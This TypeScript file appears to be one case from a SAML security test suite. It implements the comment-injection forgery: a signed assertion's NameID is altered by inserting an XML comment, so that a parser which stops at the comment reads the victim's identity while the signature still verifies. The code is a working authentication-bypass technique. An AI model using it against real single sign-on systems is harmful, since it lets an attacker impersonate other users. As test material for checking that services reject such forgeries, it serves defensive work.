import type { SamlAttack } from '../saml-attack.ts'
import { signAnswer, writeAnswer } from '../saml-provider.ts'

/** The canonical form leaves comments out, so the signature holds. */
export const attack: SamlAttack = {
  name: 'a comment within the name, where careless readers stop',
  reason: 'comment',
  forge: ({ values, signer, victim }) => {
    const signed = signAnswer(writeAnswer({ ...values, nameId: `${victim}.evil.example` }), signer)
    return signed.replace(`${victim}.evil.example</saml:NameID>`, `${victim}<!---->.evil.example</saml:NameID>`)
  },
}
